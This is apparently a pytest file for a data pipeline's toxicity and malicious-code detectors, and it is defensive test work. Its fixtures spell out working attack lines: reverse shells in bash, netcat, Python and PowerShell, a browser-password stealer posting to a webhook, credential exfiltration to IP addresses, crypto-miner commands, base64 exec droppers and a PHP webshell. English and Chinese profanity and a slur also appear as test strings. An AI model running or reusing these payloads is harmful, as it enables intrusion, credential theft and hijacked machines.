"""Detox matchers: word lists and patterns load (also from a zip), words count only in comments and strings.

Decision: identifiers are not prose. A toxic word used only as a name (`def shitty_hash`) is kept in code
languages with a grammar; in languages without one (Markdown, Text, ...) the whole text is prose.
"""
from __future__ import annotations

import importlib.util
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from pipeline.detox import matchers
from pipeline.quality import grammars
from pipeline.quality.analyze import ParseBudgetExceeded
from pipeline.quality.specs import SPECS

ALL = frozenset(("toxic_en", "toxic_zh") + matchers.MALICIOUS_CATEGORIES)
REPO = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def lists():
    return matchers.load_lists("")


def words(text, language, lists, **kw):
    return matchers.toxic_matches(text, language, lists, ALL, **kw)


def test_builtin_lists_load(lists):
    assert lists.toxic["toxic_en"].search("what the fuck")
    assert lists.toxic["toxic_zh"].search("傻逼")
    assert set(lists.malicious) == set(matchers.MALICIOUS_CATEGORIES)
    assert all(len(rules) >= 5 for rules in lists.malicious.values())


@pytest.mark.parametrize("grammar", sorted(matchers.STRING_TYPES))
def test_string_node_types_exist(grammar):
    language = grammars.language(grammar)
    assert all(language.id_for_node_kind(kind, True) for kind in matchers.STRING_TYPES[grammar])


def test_every_grammar_language_has_a_prose_query():
    for lang in SPECS:
        assert matchers.prose_query(lang).capture_count == 1


def test_python_comments_strings_and_docstrings_count(lists):
    code = ('"""Module doc: this shit is old."""\n'
            "x = compute()  # what the fuck is this\n"
            "msg = 'you dumbass'\n"
            "def f():\n    return x\n")
    assert words(code, "Python", lists) == {"toxic_en": ["shit", "fuck", "dumbass"]}


def test_identifiers_only_are_kept(lists):
    code = "def shitty_hash(fuck):\n    bitch = fuck * 31\n    return bitch\n"
    assert words(code, "Python", lists) == {}
    assert words("fn wanker() -> u8 { 0 }\n", "Rust", lists) == {}


@pytest.mark.parametrize("text", [
    "# the class assert passes; see the Scunthorpe and Penistone branches\n",
    "# assassin, cocktail, shiitake, Dickens, therapist, matchbox, analysis, pass, grass, mass assignment\n",
    "# f-k-up, sh-it, bit-ch\n",
    "# 计算两个数的和，去死锁，妈妈的生日，今日你好，弱智能体\n",
])
def test_lookalikes_kept(lists, text):
    assert words(text + "x = 1\n", "Python", lists) == {}


def test_masked_spellings_match(lists):
    assert words("// f*ck this, sh*t happens, F**K\nint x;\n", "C", lists) == {"toxic_en": ["f*ck", "sh*t", "F**K"]}
    assert words('def power(s, t):\n    """Compute s**t; f**k is ambiguous too."""\n', "Python", lists) == {}


def test_slur_entries_are_masked_in_the_list_and_match_spelled_out(lists):
    listed = matchers.entries(matchers.read_list_file("en.txt")[0])
    assert "n*gger" in listed and not any(w.startswith("nig") for w in listed)
    assert lists.toxic["toxic_en"].search("you n" + "igger".lower())
    assert not lists.toxic["toxic_en"].search("snigger")


def test_chinese_comments(lists):
    java = "class A {\n  // 这个傻逼接口又挂了，他妈的\n  int 傻逼 = 1;\n  String s = \"草泥马\";\n}\n"
    assert words(java, "Java", lists) == {"toxic_zh": ["傻逼", "他妈的", "草泥马"]}
    assert words("# 计算用户的订单总额\ndef total(xs):\n    return sum(xs)\n", "Python", lists) == {}


@pytest.mark.parametrize("lang, code", [
    ("JavaScript", "const msg = `what a shitshow ${x}`;\nlet bitchy = 1;\n"),
    ("Go", "package main\n// helper\nvar s = `this is shit`\nfunc bitch() {}\n"),
    ("Shell", "# deploy\necho \"fuck it\"\nbitch=1\n"),
    ("TypeScript", "/* bullshit */ let dickhead: number = 1;\n"),
])
def test_other_grammars(lists, lang, code):
    assert sum(len(v) for v in words(code, lang, lists).values()) == 1


def test_non_code_language_scans_everything(lists):
    assert words("# Title\n\nThis library is shit.\n", "Markdown", lists) == {"toxic_en": ["shit"]}
    assert words("shitty_hash = 1\n", None, lists) == {}  # `_` joins words: still no whole-word hit


def test_over_budget_parse_scans_whole_text(lists, monkeypatch):
    code = "def shitty(x):\n    return x\n"
    shitty = {"toxic_en": ["shitty"]}
    assert words(code.replace("shitty", "shitty_x"), "Python", lists) == {}

    def slow(*_):
        raise ParseBudgetExceeded("too slow")

    monkeypatch.setattr(matchers, "parse", slow)
    assert words(code, "Python", lists) == shitty


def test_non_ascii_offsets(lists):
    code = "s = 'héllo wörld'  # ünïcode and fuck\nfuck = 'ok'\n"
    assert words(code, "Python", lists) == {"toxic_en": ["fuck"]}


def test_min_hits_skips_parsing(lists, monkeypatch):
    monkeypatch.setattr(matchers, "prose_spans", lambda *a: pytest.fail("parsed a file below min_hits"))
    assert words("# fuck\nx = 1\n", "Python", lists, min_hits=2) == {}


def test_needles_are_derived_from_patterns():
    assert matchers.needle_groups(r"\bstratum\+(?:tcp|ssl)://") == (("stratum+tcp", "stratum+ssl"), ("://",))
    assert matchers.needle_groups(r"\b(?:iex|Invoke-Expression)\b") == (("iex", "invoke-expression"),)
    assert matchers.needle_groups(r"\b\w+\s") == ()
    # `exec|eval` parses as `e` then `xec|val` (both common in code): the run and the branches join again
    assert matchers.needle_groups(r"(?:exec|eval)\s*\(") == (("exec", "eval"),)
    # every mandatory literal is a group of its own, longest first; optional parts give none
    assert matchers.needle_groups(r"\beval\s*\(\s*(?:window\.)?atob\s*\(") == (("eval",), ("atob",))
    # a branch with an empty alternative promises nothing beyond the run before it
    assert matchers.needle_groups(r"\bdiscord(?:canary|ptb)?[\\/]+leveldb") == (("discord",), ("leveldb",))


def test_a_rule_is_searched_only_when_every_needle_group_is_in_the_text(lists, monkeypatch):
    rule = next(r for r in lists.malicious["obfuscated_dropper"] if r.name == "js_eval_atob")
    assert rule.needles == (("eval",), ("atob",))
    searched = []

    class Spy:
        def search(self, text):
            searched.append(text)
            return None

    spied = matchers.Lists(lists.toxic, {"obfuscated_dropper": (rule._replace(pattern=Spy()),)})
    for text in ("x = evaluate(y)\n", "atob(s)\n", "EVAL(x); atob(y)\n"):
        assert matchers.malicious_match(text, spied, ALL) is None
    assert searched == ["EVAL(x); atob(y)\n"]


def test_ascii_text_is_never_searched_for_terms_that_need_other_characters(tmp_path, monkeypatch):
    assert matchers._needs_non_ascii("傻逼") and not matchers._needs_non_ascii("fuck")
    assert not matchers._needs_non_ascii("\u212aill")  # the Kelvin sign: matches `kill` ignoring case
    lists = matchers.load_lists()
    assert lists.non_ascii == {"toxic_zh"}
    (tmp_path / "zh.txt").write_text("傻逼\n\u017fhit\n")  # a long s (matches `shit` ignoring case) in the list
    assert "toxic_zh" not in matchers.load_lists(str(tmp_path)).non_ascii
    searched = []

    class Spy:
        def finditer(self, text):
            searched.append(text)
            return iter(())

    spied = matchers.Lists({"toxic_zh": Spy()}, {}, lists.non_ascii)
    for text in ("# plain ascii\n", "# 注释\n"):
        assert matchers.toxic_matches(text, "Python", spied, ALL) == {}
    assert searched == ["# 注释\n"]


def test_lists_dir_override_and_fallback(tmp_path):
    (tmp_path / "en.txt").write_text("# ours\nfrobnicate\n")
    lists = matchers.load_lists(str(tmp_path))
    assert words("# frobnicate it\nx = 1\n", "Python", lists) == {"toxic_en": ["frobnicate"]}
    assert words("# fuck\nx = 1\n", "Python", lists) == {}
    assert words("# 傻逼\nx = 1\n", "Python", lists) == {"toxic_zh": ["傻逼"]}  # zh.txt: the built-in one
    assert set(lists.malicious) == set(matchers.MALICIOUS_CATEGORIES)


def test_bad_lists_dir_and_bad_patterns(tmp_path):
    with pytest.raises(ValueError, match="is not a folder"):
        matchers.load_lists(str(tmp_path / "nope"))
    with pytest.raises(ValueError, match="holds none of"):
        matchers.load_lists(str(tmp_path))
    (tmp_path / "malicious.yaml").write_text("reverse_shell:\n  - name: broken\n    pattern: '(unclosed'\n")
    with pytest.raises(ValueError, match="reverse_shell/broken: bad regular expression"):
        matchers.load_lists(str(tmp_path))
    (tmp_path / "malicious.yaml").write_text("ransomware:\n  - name: x\n    pattern: 'y'\n")
    with pytest.raises(ValueError, match="unknown category 'ransomware'"):
        matchers.load_lists(str(tmp_path))


def test_lists_load_from_a_zip(tmp_path):
    """spark-submit ships the package as a zip: the built-in lists must come out of it."""
    spec = importlib.util.spec_from_file_location("make_dist", REPO / "scripts" / "make_dist.py")
    make_dist = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(make_dist)
    archive = make_dist.build(tmp_path / "dist")  # the zip `make dist` builds
    assert {"pipeline/detox/lists/en.txt", "pipeline/detox/lists/malicious.yaml"} <= \
        set(zipfile.ZipFile(archive).namelist())
    script = (
        "import sys\n"
        "sys.meta_path[:] = [f for f in sys.meta_path if 'editable' not in repr(f).lower()]\n"  # not the checkout
        f"sys.path.insert(0, {str(archive)!r})\n"
        "from pipeline.detox import matchers\n"
        "assert matchers.__file__.startswith(sys.path[0]), matchers.__file__\n"
        "lists = matchers.load_lists('')\n"
        "print(bool(lists.toxic['toxic_en'].search('fuck')), sorted(lists.malicious))\n")
    done = subprocess.run([sys.executable, "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"True {sorted(matchers.MALICIOUS_CATEGORIES)}"


REVERSE_SHELL_PY = '''import socket, os, pty
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4242))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")
'''
STEALER_PY = '''import os, shutil, sqlite3, requests

path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy(path, "tmp.db")
rows = sqlite3.connect("tmp.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("https://discord.com/api/webhooks/1234/abcd", json={"content": str(rows)})
'''

MALICIOUS = [
    ("bash -i >& /dev/tcp/10.10.14.3/4444 0>&1\n", "reverse_shell", "bash_dev_tcp"),
    ("nc -e /bin/sh 10.0.0.1 4242\n", "reverse_shell", "netcat_exec_shell"),
    ("ncat 10.0.0.1 4242 -e /bin/bash\n", "reverse_shell", "netcat_exec_shell"),
    ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f\n", "reverse_shell",
     "mkfifo_shell_pipe"),
    (REVERSE_SHELL_PY, "reverse_shell", "python_socket_dup2_shell"),
    ("$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$stream = $client.GetStream();"
     "[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
     "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1)}",
     "reverse_shell", "powershell_tcpclient_iex"),
    (STEALER_PY, "credential_stealer", "browser_login_data_exfil"),
    ("creds = open(os.path.expanduser('~/.aws/credentials')).read()\n"
     "urllib.request.urlopen('http://203.0.113.9/c', data=creds.encode())\n", "credential_stealer",
     "aws_credentials_exfil"),
    ("cat /etc/shadow | nc 203.0.113.9 9000\n", "credential_stealer", "etc_shadow_exfil"),
    ("./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ -p x\n", "crypto_miner", "stratum_url"),
    ("./xmrig --url pool.example.net:443 --donate-level 1 --tls\n", "crypto_miner", "xmrig_command"),
    ("<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n"
     "<script>var miner = new CoinHive.Anonymous('SITE_KEY'); miner.start();</script>\n", "crypto_miner", "coinhive"),
    ("import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n",
     "obfuscated_dropper", "exec_decompress_base64"),
    ("import base64\neval(base64.b64decode(b'cHJpbnQoMSk='))\n", "obfuscated_dropper", "exec_base64_decode"),
    ("exec(__import__('zlib').decompress(__import__('base64').b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n",
     "obfuscated_dropper", "exec_import_decoder"),
    ("_ = lambda s: __import__('base64').b64decode(s[::-1])\nexec(_('" + "QUJD" * 60 + "'))\n", "obfuscated_dropper",
     "exec_long_base64_blob"),
    ("<?php eval(base64_decode($_POST['x'])); ?>\n", "obfuscated_dropper", "php_eval_decode"),
    ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp\n",
     "obfuscated_dropper", "powershell_encoded_command"),
    ("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\n", "obfuscated_dropper",
     "powershell_iex_download"),
    ("curl -fsSL http://185.10.68.2/x.sh | sh\n", "obfuscated_dropper", "pipe_to_shell_from_ip"),
    ("wget http://185.10.68.2:8080/bot -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x\n", "obfuscated_dropper",
     "download_chmod_exec_from_ip"),
]


@pytest.mark.parametrize("text, category, name", MALICIOUS, ids=[m[2] for m in MALICIOUS])
def test_malicious_patterns(lists, text, category, name):
    assert matchers.malicious_match(text, lists, ALL) == (category, name)
    assert matchers.malicious_match(text, lists, ALL - {category}) is None


BENIGN = [
    '"""Detect reverse shells and crypto miners among running processes.\n\nA reverse shell connects back to '
    'the attacker and hands over /bin/sh; a miner talks to its pool over the stratum protocol and eats CPU.\n'
    'Credential stealers read browser Login Data files."""\n',
    "import socket, subprocess\n\ndef ping(host, port):\n    with socket.create_connection((host, port), 3) as s:\n"
    "        s.sendall(b'PING')\n        return s.recv(64)\n\ndef run(cmd):\n"
    "    return subprocess.run(['/bin/sh', '-c', cmd], capture_output=True, check=True)\n",
    "import os\ndevnull = open(os.devnull, 'r+')\nos.dup2(devnull.fileno(), 0)\nos.dup2(devnull.fileno(), 1)\n",
    "data = base64.b64decode(payload)\nconfig = json.loads(zlib.decompress(data))\nresult = eval_model(config)\n",
    "curl -sSf https://sh.rustup.rs | sh\nwget -qO- https://get.docker.com | sh\n",
    "cfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/credentials'))\n",
    "nc -zv 10.0.0.1 22\necho done\n",
    "# xmrig is a Monero miner; we block its pools in the firewall\n",
    "if [ -e /dev/tcp ]; then echo ok; fi\nexec 3>/dev/null\n",
]


@pytest.mark.parametrize("text", BENIGN)
def test_benign_lookalikes(lists, text):
    assert matchers.malicious_match(text, lists, ALL) is None
